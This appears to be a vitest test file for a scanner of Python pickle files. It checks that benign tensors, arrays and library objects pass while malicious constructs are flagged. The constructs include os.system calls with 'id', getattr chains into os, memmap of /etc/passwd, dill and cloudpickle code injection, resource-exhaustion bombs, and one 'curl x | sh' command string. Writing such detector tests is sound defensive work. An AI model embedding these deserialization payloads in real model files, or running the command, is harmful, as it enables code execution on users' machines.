import { describe, expect, test } from "vitest";
import type { Severity } from "../../../findings/severity.js";
import type { Value } from "../values.js";
import { container, dict, Tape } from "../../../../test/pickle-tape.js";

/** Worst severity of what `write` puts on the tape; its result is what the loader returns. */
function worst(write: (tape: Tape) => unknown, loader?: string): Severity | undefined {
  const tape = new Tape();
  write(tape);
  const severities = tape.judge({ trust: ["vouched"], ...(loader ? { loader } : {}) }).map((judgement) => judgement.severity);
  return (["critical", "warning", "info"] as const).find((severity) => severities.includes(severity));
}

type Case = readonly [string, Severity | undefined, (tape: Tape) => unknown, string?];

function check(cases: readonly Case[]): void {
  for (const [name, severity, write, loader] of cases) test(name, () => expect(worst(write, loader)).toBe(severity));
}

const SYSTEM = (tape: Tape): Value => tape.global("posix", "system");

describe("honest streams", () =>
  check([
    ["an OrderedDict", undefined, (t) => t.mutate(t.call(t.global("collections", "OrderedDict"), []), "SETITEMS", "weight", 1)],
    [
      "a tensor",
      undefined,
      (t) => {
        const storage = t.persistent(["storage", t.global("torch", "FloatStorage"), "0", "cpu", 4]);
        t.call(t.global("torch._utils", "_rebuild_tensor_v2"), [
          storage,
          0,
          [2, 2],
          [2, 1],
          false,
          t.call(t.global("collections", "OrderedDict"), []),
        ]);
      },
    ],
    ["an untyped storage", undefined, (t) => t.persistent(["storage", t.global("torch", "float32"), "0", "cpu", 4])],
    [
      "a legacy storage with its view",
      undefined,
      (t) => t.persistent(["storage", t.global("torch.cuda", "FloatStorage"), "0", "cuda:0", 4, ["1", 0, 2]]),
    ],
    [
      "a legacy module class",
      undefined,
      (t) => {
        const cls = t.persistent(["module", t.global("torch.nn.modules.linear", "Linear"), "linear.py", "class Linear: pass"]);
        t.build(t.call(cls, [], "NEWOBJ"), dict({ training: true }));
      },
    ],
    ["bytes of protocol 2", undefined, (t) => t.call(t.global("_codecs", "encode"), ["\u00ff", "latin1"])],
    [
      "an old-style object",
      undefined,
      (t) => t.call(t.global("copy_reg", "_reconstructor"), [t.global("sklearn.svm.classes", "SVC"), t.global("__builtin__", "object"), null]),
    ],
    [
      "an array",
      undefined,
      (t) => {
        const array = t.call(t.global("numpy._core.multiarray", "_reconstruct"), [t.global("numpy", "ndarray"), [0], new Uint8Array([98])]);
        t.build(array, [1, [2], t.call(t.global("numpy", "dtype"), ["f8", false, true]), false, new Uint8Array(16)]);
      },
    ],
    [
      "a scorer's metric",
      undefined,
      (t) => t.build(t.object("sklearn.metrics._scorer", "_Scorer"), dict({ _score_func: t.global("sklearn.metrics._classification", "f1_score") })),
    ],
    [
      "a function transformer of numpy",
      undefined,
      (t) => t.build(t.object("sklearn.preprocessing._function_transformer", "FunctionTransformer"), dict({ func: t.global("numpy", "log1p") })),
    ],
    [
      "a partial of a metric",
      undefined,
      (t) => {
        const partial = t.call(t.global("functools", "partial"), [t.global("numpy", "add")]);
        t.build(partial, [t.global("numpy", "add"), [1], container("dict", []), null]);
      },
    ],
    [
      "a bound method in protocol 2",
      undefined,
      (t) => t.call(t.global("__builtin__", "getattr"), [t.object("torch.nn.modules.linear", "Linear"), "forward"]),
    ],
    ["a class of the project", "info", (t) => t.build(t.object("__main__", "Net"), dict({ size: 3 }))],
    ["a class of a package", "info", (t) => t.build(t.object("hdbscan.hdbscan_", "HDBSCAN"), dict({ size: 3 }))],
    ["a dict subclass of a package", "info", (t) => t.mutate(t.object("box", "Box"), "SETITEMS", "a", 1)],
    ["a vouched function", undefined, (t) => t.call(t.global("vouched.code", "make"), [1])],
    [
      "TorchScript",
      undefined,
      (t) =>
        t.build(
          t.call(t.global("__torch__.Net", "Net"), []),
          dict({ a: t.call(t.global("torch.jit._pickle", "build_intlist"), [container("list", [1])]) }),
        ),
      "torchscript",
    ],
    [
      "a distribution of SciPy",
      undefined,
      (t) =>
        t.build(
          t.object("scipy.stats._continuous_distns", "norm_gen"),
          dict({
            _parse_arg_template:
              "\ndef _parse_args(self,  loc=0, scale=1):\n    return (), loc, scale\n\ndef _parse_args_rvs(self,  loc=0, scale=1, size=None):\n    return self._argcheck_rvs( loc, scale, size=size)\n\ndef _parse_args_stats(self,  loc=0, scale=1, moments='mv'):\n    return (), loc, scale, moments\n",
          }),
        ),
    ],
    [
      "a union of types",
      undefined,
      (t) => t.call(t.global("functools", "reduce"), [t.global("_operator", "or_"), [t.global("builtins", "int"), t.global("builtins", "str")]]),
    ],
    [
      "a generator of numpy",
      undefined,
      (t) => t.call(t.global("numpy.random._pickle", "__generator_ctor"), ["PCG64", t.global("numpy.random._pickle", "__bit_generator_ctor")]),
    ],
  ]));

test("an array that was mapped from a file is honest, mapping one is not", () => {
  expect(worst((t) => t.call(t.global("numpy.core.multiarray", "_reconstruct"), [t.global("numpy", "memmap"), [0], "b"]))).toBeUndefined();
  expect(worst((t) => t.call(t.global("numpy", "memmap"), ["/etc/passwd"], "NEWOBJ"))).toBe("critical");
});

describe("attacks", () =>
  check([
    ["a call", "critical", (t) => t.call(SYSTEM(t), ["id"])],
    ["a reference", "critical", (t) => SYSTEM(t)],
    ["a computed name", "critical", (t) => t.global("collections", "OrderedDict", "str.join")],
    ["a partial", "critical", (t) => t.call(t.global("functools", "partial"), [SYSTEM(t), "id"])],
    ["map without REDUCE", "critical", (t) => t.call(t.global("builtins", "map"), [SYSTEM(t), container("list", ["id"])], "NEWOBJ")],
    ["map of an unknown function", "warning", (t) => t.call(t.global("builtins", "map"), [t.global("pkg", "run"), container("list", ["id"])])],
    ["map of getattr", "critical", (t) => t.call(t.global("builtins", "map"), [t.global("builtins", "getattr"), container("list", [])])],
    [
      "getattr handed on",
      "critical",
      (t) => t.build(t.object("torch.nn.modules.linear", "Linear"), dict({ forward: t.global("builtins", "getattr") })),
    ],
    [
      "the loader of storages handed on",
      "critical",
      (t) => t.build(t.object("torch.nn.modules.linear", "Linear"), dict({ forward: t.global("torch.storage", "_load_from_bytes") })),
    ],
    [
      "getattr to a method that acts",
      "critical",
      (t) => t.call(t.call(t.global("builtins", "getattr"), [t.call(t.global("pathlib", "PosixPath"), ["x"]), "unlink"]), []),
    ],
    ["getattr to a dunder", "critical", (t) => t.call(t.global("builtins", "getattr"), [t.global("collections", "OrderedDict"), "__init__"])],
    [
      "getattr of a computed name",
      "critical",
      (t) =>
        t.call(t.global("builtins", "getattr"), [
          t.global("collections", "OrderedDict"),
          t.call(t.global("builtins", "str.join"), ["", container("list", ["a"])]),
        ]),
    ],
    [
      "a getattr chain into a module",
      "critical",
      (t) =>
        t.call(t.call(t.global("builtins", "getattr"), [t.call(t.global("builtins", "getattr"), [t.global("torch", "nn"), "os"]), "system"]), ["id"]),
    ],
    ["a result called", "critical", (t) => t.call(t.call(t.global("operator", "itemgetter"), [0]), [[1]])],
    ["a module re-pointed", "critical", (t) => t.mutate(t.global("sys", "modules"), "SETITEM", "a", 1)],
    ["a class changed by BUILD", "critical", (t) => t.build(t.global("collections", "OrderedDict"), dict({ update: 1 }))],
    ["an unknown module changed by BUILD", "critical", (t) => t.build(t.global("pkg", "thing"), dict({ update: 1 }))],
    [
      "a class reached by getattr changed",
      "critical",
      (t) => t.build(t.call(t.global("builtins", "getattr"), [t.global("pandas", "DataFrame"), "index"]), dict({ a: 1 })),
    ],
    [
      "__setstate__ in the state",
      "critical",
      (t) => t.build(t.call(t.global("collections", "Counter"), []), dict({ __setstate__: t.global("numpy", "add") })),
    ],
    ["__setstate__ in slots", "critical", (t) => t.build(t.object("__main__", "Net"), [null, dict({ __class__: 1 })])],
    [
      "SETITEM on a tensor",
      "critical",
      (t) => {
        const tensor = t.call(t.global("torch._utils", "_rebuild_tensor_v2"), [
          t.persistent(["storage", t.global("torch", "FloatStorage"), "0", "cpu", 4]),
          0,
          [4],
          [1],
          false,
          null,
        ]);
        t.mutate(tensor, "SETITEM", 0, 1);
      },
    ],
    [
      "APPENDS on an array",
      "critical",
      (t) => t.mutate(t.call(t.global("numpy.core.multiarray", "_reconstruct"), [t.global("numpy", "ndarray"), [0], "b"]), "APPENDS", 1),
    ],
    ["a wrapper around system", "critical", (t) => t.call(t.global("torch._tensor", "_rebuild_from_type_v2"), [SYSTEM(t), null, ["id"], dict({})])],
    [
      "a wrapper around an allowed class",
      "critical",
      (t) =>
        t.call(t.global("torch._tensor", "_rebuild_from_type_v2"), [t.global("builtins", "print"), t.global("torch", "Tensor"), ["id"], dict({})]),
    ],
    [
      "a wrapper with a state that acts",
      "critical",
      (t) =>
        t.call(t.global("torch._tensor", "_rebuild_from_type_v2"), [
          t.global("torch._utils", "_rebuild_tensor_v2"),
          t.global("torch", "Tensor"),
          [1],
          dict({ __class__: t.global("__main__", "A") }),
        ]),
    ],
    ["an unknown persistent id", "warning", (t) => t.persistent("anything")],
    ["a persistent call", "critical", (t) => t.persistent(["reduce_package", 1, SYSTEM(t), ["id"]])],
    ["a storage of a type that is none", "warning", (t) => t.persistent(["storage", t.global("collections", "OrderedDict"), "0", "cpu", 4])],
    [
      "SciPy source with a payload",
      "critical",
      (t) => t.build(t.object("scipy.stats._continuous_distns", "norm_gen"), dict({ _parse_arg_template: "import os\n" })),
    ],
    [
      "SciPy source with a default argument",
      "critical",
      (t) =>
        t.build(
          t.object("scipy.stats._continuous_distns", "norm_gen"),
          dict({ _parse_arg_template: "def _parse_args(self, a=print(1), loc=0, scale=1):\n    return (), loc, scale\n" }),
        ),
    ],
    ["a pointer as a handle", "critical", (t) => t.build(t.object("lightgbm.basic", "Dataset"), dict({ _handle: 4660 }))],
    ["a ufunc that is none", "critical", (t) => t.call(t.global("numpy.core", "_ufunc_reconstruct"), ["os", "system"])],
    ["a random constructor that calls", "critical", (t) => t.call(t.global("numpy.random._pickle", "__generator_ctor"), ["id", SYSTEM(t)])],
    [
      "a random constructor with another callable",
      "critical",
      (t) => t.call(t.global("numpy.random._pickle", "__randomstate_ctor"), ["id", t.global("builtins", "str")]),
    ],
    ["a codec that computes", "critical", (t) => t.call(t.global("_codecs", "encode"), ["bf", "rot13"])],
    ["type with a body", "critical", (t) => t.call(t.global("builtins", "type"), ["A", [], dict({})])],
    ["a memory bomb", "warning", (t) => t.call(t.global("builtins", "bytearray"), [2 ** 40])],
    ["an endless list", "warning", (t) => t.call(t.global("builtins", "list"), [t.call(t.global("itertools", "count"), [])])],
    ["a huge range", "warning", (t) => t.call(t.global("builtins", "list"), [t.call(t.global("builtins", "range"), [2 ** 50])])],
    ["a huge array", "warning", (t) => t.call(t.global("numpy.core.multiarray", "_reconstruct"), [t.global("numpy", "ndarray"), [2 ** 40], "b"])],
    ["a data type with an expression", "warning", (t) => t.call(t.global("numpy", "dtype"), ["(__import__('os').system('id'),)f4"])],
    [
      "copyreg over a class of the system",
      "critical",
      (t) => t.call(t.global("copyreg", "_reconstructor"), [SYSTEM(t), t.global("builtins", "object"), null]),
    ],
    [
      "copyreg with another base",
      "critical",
      (t) => t.call(t.global("copyreg", "_reconstructor"), [t.global("__main__", "A"), t.global("numpy", "add"), null]),
    ],
    ["a stored cloudpickle function", "warning", (t) => cloudpickle(t, "f", ["x"])],
    ["a called cloudpickle function", "critical", (t) => t.call(cloudpickle(t, "f", ["x"]), [])],
    ["a cloudpickle function that uses os", "critical", (t) => cloudpickle(t, "f", ["os", "system"])],
    [
      "a cloudpickle function in a hook",
      "critical",
      (t) => t.build(t.object("torch.nn.modules.linear", "Linear"), dict({ _forward_hooks: dict({ a: cloudpickle(t, "f", ["x"]) }) })),
    ],
    ["a static method of a class by value", "warning", (t) => t.call(t.global("builtins", "staticmethod"), [cloudpickle(t, "f", ["x"])])],
    ["a static method of something else", "critical", (t) => t.call(t.global("builtins", "staticmethod"), [t.global("numpy", "add")])],
    [
      "setattr on a real class",
      "critical",
      (t) => t.call(t.global("builtins", "setattr"), [t.global("collections", "OrderedDict"), "__qualname__", "x"]),
    ],
    ["setattr on code", "critical", (t) => t.call(t.global("builtins", "setattr"), [cloudpickle(t, "f", ["x"]), "__globals__", 1])],
    ["the main module of dill changed", "critical", (t) => t.mutate(t.global("__builtin__", "__main__"), "SETITEM", "a", 1)],
    [
      "a setter of cloudpickle on a real function",
      "critical",
      (t) => t.call(t.global("cloudpickle.cloudpickle", "_function_setstate"), [t.global("json", "loads"), [dict({}), dict({})]]),
    ],
    [
      "a class by value with __reduce__",
      "critical",
      (t) => {
        const cls = t.call(t.global("cloudpickle.cloudpickle", "_make_skeleton_class"), [
          t.global("builtins", "type"),
          "A",
          [],
          dict({}),
          "id",
          null,
        ]);
        t.call(t.global("cloudpickle.cloudpickle", "_class_setstate"), [cls, [dict({ __setstate__: cloudpickle(t, "f", ["x"]) }), dict({})]]);
      },
    ],
    ["a module imported by dill", "critical", (t) => t.call(t.global("dill._dill", "_import_module"), ["os"])],
    [
      "a dill function called",
      "critical",
      (t) => t.call(t.call(t.global("dill._dill", "_create_function"), [t.call(t.global("dill._dill", "_create_code"), [1]), dict({}), "f"]), []),
    ],
    ["a code object from parts", "critical", (t) => t.call(t.global("types", "CodeType"), [0])],
    [
      "a graph module with a payload",
      "critical",
      (t) =>
        t.call(t.global("torch.fx.graph_module", "reduce_graph_module"), [
          dict({ _code: "\n\ndef forward(self, x):\n    exec('1')\n" }),
          "import torch",
        ]),
    ],
    [
      "a graph module with an import",
      "critical",
      (t) =>
        t.call(t.global("torch.fx.graph_module", "reduce_graph_module"), [dict({ _code: "\n\ndef forward(self, x):\n    return x\n" }), "import os"]),
    ],
    ["a class constructor that loads a file", "warning", (t) => t.call(t.global("lightgbm.basic", "Booster"), [null, null, "http://x/y"])],
    ["a computation", "warning", (t) => t.call(t.global("builtins", "len"), ["x"])],
    ["a function of a known library", "critical", (t) => t.call(t.global("torch.cuda.profiler", "init"), ["x"])],
    ["a reconstructor of another version", "warning", (t) => t.call(t.global("torch._utils", "_rebuild_future_tensor"), [1])],
    [
      "a function patched to be an import",
      "critical",
      (t) => t.build(t.global("numpy", "size"), [dict({}), dict({ shape: t.global("numpy", "__builtins__") })]),
    ],
    ["an unknown function", "warning", (t) => t.call(t.global("pkg", "f"), [])],
    ["a call of something unknown", "critical", (t) => t.call({ kind: "unknown", why: "empty stack" }, [])],
  ]));

test("the evidence shows the command", () => {
  const tape = new Tape();
  tape.call(SYSTEM(tape), ["curl x | sh"]);
  expect(tape.judge()).toEqual([
    {
      rule: "S101",
      severity: "critical",
      offset: 1,
      args: { does: "runs", callable: "posix.system", evidence: '("curl x | sh")' },
      details: { canonical: "os.system" },
    },
  ]);
});

test("arguments nested without end do not exhaust the stack", () => {
  const tape = new Tape();
  const rebuild = tape.global("torch._tensor", "_rebuild_from_type_v2");
  let args: unknown[] = [rebuild, null, [], null];
  for (let depth = 0; depth < 2000; depth++) args = [rebuild, null, args, null];
  tape.call(rebuild, args);
  expect(tape.judge().some((judgement) => judgement.severity === "critical")).toBe(true);
});

function cloudpickle(tape: Tape, name: string, names: string[]): Value {
  const codeType = tape.call(tape.global("cloudpickle.cloudpickle", "_builtin_type"), ["CodeType"]);
  const code = tape.call(codeType, [1, 0, 0, 1, 3, 67, new Uint8Array(4), [null], names, ["x"], "file.py", name]);
  return tape.call(tape.global("cloudpickle.cloudpickle", "_make_function"), [code, container("dict", []), null, null, null]);
}

/** A class by value with this metaclass and these methods; an enumeration when it has members. */
function byValue(
  t: Tape,
  methods: Record<string, unknown>,
  meta: [string, string] = ["builtins", "type"],
  members?: Record<string, unknown>,
  bases: Value[] = [],
): Value {
  const cls = members
    ? t.call(t.global("cloudpickle.cloudpickle", "_make_skeleton_enum"), [bases, "A", "A", dict(members), "__main__", "id", null])
    : t.call(t.global("cloudpickle.cloudpickle", "_make_skeleton_class"), [t.global(...meta), "A", bases, dict({}), "id", null]);
  return t.call(t.global("cloudpickle.cloudpickle", "_class_setstate"), [cls, [dict(methods), dict({})]]);
}

describe("classes by value", () => {
  const skeleton = (t: Tape, meta: Value) =>
    t.call(t.global("cloudpickle.cloudpickle", "_make_skeleton_class"), [meta, "B", [], dict({}), "id", null]);
  const rehydrate = (t: Tape) => t.global("cloudpickle.cloudpickle", "_rehydrate_skeleton_class");
  const code = (t: Tape) => cloudpickle(t, "f", ["x"]);
  const cases: Case[] = [
    ["data only", "info", (t) => t.call(byValue(t, { size: 3 }), [], "NEWOBJ")],
    ["an exception, called", "info", (t) => t.call(byValue(t, { size: 3 }), ["text"])],
    ["with a method", "warning", (t) => t.call(byValue(t, { predict: code(t) }), ["text"])],
    ["with an __init__, made", "warning", (t) => t.call(byValue(t, { __init__: code(t) }), [], "NEWOBJ")],
    ["with an __init__, called", "critical", (t) => t.call(byValue(t, { __init__: code(t) }), ["text"])],
    ["called before it is filled", "info", (t) => t.call(byValue(t, {}), [])],
    [
      "with a base that has an __init__, called",
      "critical",
      (t) => t.call(byValue(t, {}, undefined, undefined, [byValue(t, { __init__: code(t) })]), ["x"]),
    ],
    ["with a method register", "warning", (t) => byValue(t, { register: code(t) })],
    ["with a method register, abstract", "warning", (t) => byValue(t, { register: code(t), _abc_impl: container("list", []) })],
    ["registering by a method of its own", "critical", (t) => byValue(t, { register: code(t), _abc_impl: container("list", [1]) })],
    ["that stands for its bases", "critical", (t) => byValue(t, { __mro_entries__: code(t) })],
    [
      "whose object is iterated over",
      "critical",
      (t) => t.call(t.global("cloudpickle.cloudpickle", "_make_dict_keys"), [t.call(byValue(t, { __iter__: code(t) }), [], "NEWOBJ")]),
    ],
    [
      "whose object gives an item",
      "critical",
      (t) =>
        t.call(t.global("cloudpickle.cloudpickle", "_create_parametrized_type_hint"), [
          t.call(byValue(t, { __getitem__: code(t) }), [], "NEWOBJ"),
          "x",
        ]),
    ],
    [
      "as a generic type",
      "info",
      (t) =>
        t.call(t.global("_operator", "getitem"), [
          byValue(t, {}, undefined, undefined, [t.global("typing", "Generic")]),
          t.global("builtins", "int"),
        ]),
    ],
    [
      "whose metaclass gives an item",
      "critical",
      (t) => {
        const base = skeleton(t, byValue(t, { __getitem__: code(t) }));
        t.call(t.global("_operator", "getitem"), [byValue(t, {}, undefined, undefined, [base]), "x"]);
      },
    ],
    ["in a view", "info", (t) => t.call(t.global("cloudpickle.cloudpickle", "_make_dict_keys"), [container("list", [byValue(t, {})])])],
    ["with a function as its metaclass", "warning", (t) => byValue(t, {}, ["some_package", "run"])],
    ["with a command as its metaclass", "critical", (t) => byValue(t, {}, ["os", "system"])],
    ["with a class of the file as its metaclass", "info", (t) => skeleton(t, byValue(t, { size: 3 }))],
    ["with one that has an __init__", "critical", (t) => skeleton(t, byValue(t, { __init__: code(t) }))],
    [
      "filled by an older helper",
      "critical",
      (t) => t.call(t.call(rehydrate(t), [skeleton(t, t.global("builtins", "type")), dict({ __init__: code(t) })]), ["text"]),
    ],
    ["of data, filled by an older helper", "info", (t) => t.call(rehydrate(t), [skeleton(t, t.global("builtins", "type")), dict({ size: 3 })])],
    ["a member of an enumeration", "info", (t) => t.call(byValue(t, { __new__: t.global("enum", "Enum.__new__") }, undefined, { RED: 1 }), [1])],
    ["an enumeration with a method of its own", "warning", (t) => t.call(byValue(t, { __init__: code(t) }, undefined, { RED: 1 }), [1])],
    ["an enumeration that answers by code", "critical", (t) => t.call(byValue(t, { _missing_: code(t) }, undefined, { RED: 1 }), [2])],
    ["an enumeration whose base makes its members", "critical", (t) => byValue(t, {}, undefined, { RED: 1 }, [byValue(t, { __init__: code(t) })])],
    ["a constructor of Python, called", "critical", (t) => t.call(t.global("builtins", "object.__new__"), [t.global("builtins", "int")])],
    ["a module that only calls", "warning", (t) => t.call(t.global("cloudpickle.cloudpickle", "subimport"), ["_thread"])],
    [
      "what such a module gives",
      "critical",
      (t) => t.call(t.global("builtins", "getattr"), [t.call(t.global("cloudpickle.cloudpickle", "subimport"), ["threading"]), "Timer"]),
    ],
    ["a dill type made by a call", "critical", (t) => t.call(t.global("dill._dill", "_create_type"), [t.global("os", "system"), "id"])],
    ["a dill namedtuple", "info", (t) => t.call(t.global("dill._dill", "_create_namedtuple"), ["P", ["x", "y"], "__main__"])],
    ["a dill namedtuple of a module", "critical", (t) => t.call(t.global("dill._dill", "_create_namedtuple"), ["P", ["x"], "antigravity"])],
    ["a dill singleton", undefined, (t) => t.call(t.global("dill._dill", "_eval_repr"), ["NotImplemented"])],
    ["a dill expression", "critical", (t) => t.call(t.global("dill._dill", "_eval_repr"), ["__import__('os')"])],
  ];
  check(cases);
});

describe("caches of joblib", () => {
  const memory = (t: Tape, state: Record<string, unknown>) => t.build(t.object("joblib.memory", "Memory"), dict(state));
  const cases: Case[] = [
    ["without a folder", undefined, (t) => memory(t, { depth: 4, store_backend: null })],
    ["with a folder", "critical", (t) => memory(t, { store_backend: t.object("joblib._store_backends", "FileSystemStoreBackend") })],
    ["called with a folder", "critical", (t) => t.call(t.global("joblib.memory", "Memory"), ["/tmp/x"])],
  ];
  check(cases);
});

describe("exceptions and data of denied modules", () =>
  check([
    ["a failed command", undefined, (t) => t.call(t.global("subprocess", "CalledProcessError"), [1, "ls"])],
    ["a command", "critical", (t) => t.call(t.global("subprocess", "Popen"), ["ls"])],
    ["a broken connection", undefined, (t) => t.call(t.global("httplib", "RemoteDisconnected"), ["x"])],
    ["a log record", undefined, (t) => t.build(t.object("logging", "LogRecord"), dict({ msg: "x" }))],
    ["a log record, called", "critical", (t) => t.call(t.global("logging", "LogRecord"), ["x"])],
    ["a log handler", "critical", (t) => t.build(t.object("logging", "FileHandler"), dict({ baseFilename: "x" }))],
    ["a signal", undefined, (t) => t.call(t.global("signal", "Signals"), [15])],
    ["a signal handler", "critical", (t) => t.call(t.global("signal", "signal"), [15, t.global("__main__", "f")])],
  ]));

describe("reconstructors of further libraries", () => {
  const array = (t: Tape) => t.global("numpy.core.multiarray", "_reconstruct");
  const cases: Case[] = [
    [
      "an array of jax",
      undefined,
      (t) => t.call(t.global("jax._src.array", "_reconstruct_array"), [array(t), [t.global("numpy", "ndarray"), [0], "b"], [1], dict({})]),
    ],
    [
      "an array of jax by a command",
      "critical",
      (t) => t.call(t.global("jax._src.array", "_reconstruct_array"), [t.global("os", "system"), ["id"], [], dict({})]),
    ],
    [
      "an array of jax by an unknown function",
      "critical",
      (t) => t.call(t.global("jax._src.array", "_reconstruct_array"), [t.global("some", "run"), ["id"], [], dict({})]),
    ],
    [
      "a unit of another class",
      "critical",
      (t) => t.call(t.global("astropy.units.core", "_recreate_irreducible_unit"), [t.global("some", "Run"), ["m"], true]),
    ],
    ["what a model gives", "info", (t) => t.call(t.global("transformers.modeling_outputs", "BaseModelOutputWithPast"), [null])],
    ["another class of its library", "warning", (t) => t.call(t.global("transformers.modeling_outputs", "Runner"), [null])],
    ["a plug-in of accelerate", undefined, (t) => t.call(t.global("torch.distributed.fsdp.api", "ShardingStrategy"), [1])],
    ["a wrapper of fsdp", "critical", (t) => t.call(t.global("torch.distributed.fsdp.api", "fully_shard"), [1])],
    ["a Cython object", "info", (t) => t.call(t.global("some.ext", "__pyx_unpickle_A"), [t.global("some.ext", "A"), 1234, null])],
    ["a Cython object of another package", "warning", (t) => t.call(t.global("some.ext", "__pyx_unpickle_A"), [t.global("other", "A"), 1234, null])],
    [
      "bytes of protocol 2 under a dunder",
      "info",
      (t) => t.build(t.object("some", "A"), dict({ __data__: t.call(t.global("_codecs", "encode"), ["x", "latin1"]) })),
    ],
  ];
  check(cases);
});

describe("names beside the objects of their library", () =>
  check([
    ["a function beside an object", "info", (t) => [t.object("some_package.a", "Model"), t.global("some_package.b", "link")]],
    ["a function of another package", "warning", (t) => [t.object("some_package.a", "Model"), t.global("other", "link")]],
    ["a function called", "warning", (t) => [t.object("some_package.a", "Model"), t.call(t.global("some_package", "f"), [])]],
    ["an unrecorded name of torch", "warning", (t) => [t.object("torch.new", "Model"), t.global("torch.new", "link")]],
  ]));

describe("classes of the program itself", () => {
  const own: Case[] = [
    ["a member of an enumeration", "info", (t) => t.call(t.global("__main__", "Color"), ["red"])],
    ["an exception", "info", (t) => t.call(t.global("__main__", "MyError"), ["text", 2])],
    ["a function", "warning", (t) => t.call(t.global("__main__", "run"), ["x"])],
    ["a class that gets a function", "warning", (t) => t.call(t.global("__main__", "Runner"), [t.global("__main__", "run")])],
    ["a class of another package", "warning", (t) => t.call(t.global("some_package", "Runner"), ["x"])],
  ];
  check(own);

  const wrapped = (module: string, name: string) => (t: Tape) =>
    t.build(t.object("joblib.numpy_pickle", "NumpyArrayWrapper"), dict({ subclass: t.global(module, name) }));
  test("a mapped array that joblib saved is an array again", () => {
    expect(worst(wrapped("numpy", "memmap"))).toBeUndefined();
    expect(worst(wrapped("numpy.core.memmap", "memmap"))).toBeUndefined();
    expect(worst(wrapped("subprocess", "Popen"))).toBe("critical");
  });

  test("a product of ranges is counted", () => {
    const product = (sides: number) => (t: Tape) => {
      const ranges = Array.from({ length: sides }, () => t.call(t.global("builtins", "range"), [100_000]));
      t.call(t.global("builtins", "list"), [t.call(t.global("itertools", "product"), ranges)]);
    };
    expect(worst(product(1))).toBeUndefined();
    expect(worst(product(4))).toBe("warning");
  });

  test("calls nested too deeply leave what comes after them judged as ever", () => {
    const tape = new Tape();
    const rebuild = tape.global("torch._tensor", "_rebuild_from_type_v2");
    for (let call = 0; call < 20; call++) {
      let args: unknown[] = [call];
      for (let level = 0; level < 20; level++) args = [rebuild, tape.global("torch", "Tensor"), args, null];
      tape.call(rebuild, args);
    }
    tape.call(tape.global("builtins", "bytearray"), [2 ** 40]);
    const rules = tape.judge().map(({ rule }) => rule);
    expect(rules).toContain("S1243");
    expect(rules).toContain("S1242");
  });
});
